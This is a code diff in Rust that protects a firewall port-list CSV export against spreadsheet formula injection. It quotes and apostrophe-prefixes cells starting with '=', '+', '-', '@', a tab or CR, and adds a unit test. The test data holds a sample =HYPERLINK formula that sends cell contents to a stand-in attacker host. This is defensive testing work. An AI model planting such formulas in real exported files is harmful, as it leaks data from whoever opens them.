@@ -513,8 +513,13 @@ const SCHEMA: &str = r##"{
 // ---------------------------------------------------------------------------------------------
 // CSV
 
-/// The port list as CSV (RFC 4180: CRLF line ends, fields quoted only when they contain `,`,
-/// `"`, CR or LF, inner quotes doubled), with a header row.
+/// The port list as CSV (RFC 4180: CRLF line ends, inner quotes doubled), with a header row.
+/// A field is quoted when it contains `,`, `"`, CR or LF, and also `;` or a tab, which some
+/// spreadsheets take as the separator. A cell that a spreadsheet would evaluate as a formula
+/// (starting with `=`, `+`, `-`, `@`, a tab or CR, as OWASP's "CSV Injection" lists them) gets
+/// a leading `'` and quotes: labels are text from translators, and a label such as
+/// `=HYPERLINK(…)` must not run when someone opens the file. Ports never start with those
+/// characters, so they stay plain numbers.
 ///
 /// One row per rule, deployment usage, protocol and port range, in that nesting, so no cell
 /// needs splitting: columns `rule,deployment,direction,protocol,port_start,port_end,devices,
@@ -584,20 +589,33 @@ pub fn csv(
     out
 }
 
+/// What makes a spreadsheet read a cell as a formula when it starts the cell.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 fn csv_row(out: &mut String, fields: &[String]) {
     for (index, field) in fields.iter().enumerate() {
         if index > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\r', '\n']) {
-            out.push('"');
-            out.push_str(&field.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(field);
-        }
+        csv_field(out, field);
     }
     out.push_str("\r\n");
+}
+
+/// One field of [`csv`]: neutralised with a leading `'` if a spreadsheet would evaluate it, and
+/// quoted if it is neutralised or holds a separator, a quote or a line break.
+fn csv_field(out: &mut String, field: &str) {
+    let formula = field.starts_with(FORMULA_STARTS);
+    if formula || field.contains([',', ';', '\t', '"', '\r', '\n']) {
+        out.push('"');
+        if formula {
+            out.push('\'');
+        }
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(field);
+    }
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -1436,6 +1454,34 @@ COMMIT
         assert_eq!(
             row,
             "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",\r\n"
+        );
+    }
+
+    #[test]
+    fn csv_neutralises_cells_a_spreadsheet_would_evaluate() {
+        let mut row = String::new();
+        let fields = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "a;=1+1",
+            "a\t=1+1",
+            "5061",
+            "x=1",
+            "'quoted",
+        ]
+        .map(str::to_owned);
+        csv_row(&mut row, &fields);
+        assert_eq!(
+            row,
+            concat!(
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",",
+                "\"'+1\",\"'-2+3\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",",
+                "\"a;=1+1\",\"a\t=1+1\",5061,x=1,'quoted\r\n"
+            )
         );
     }
 
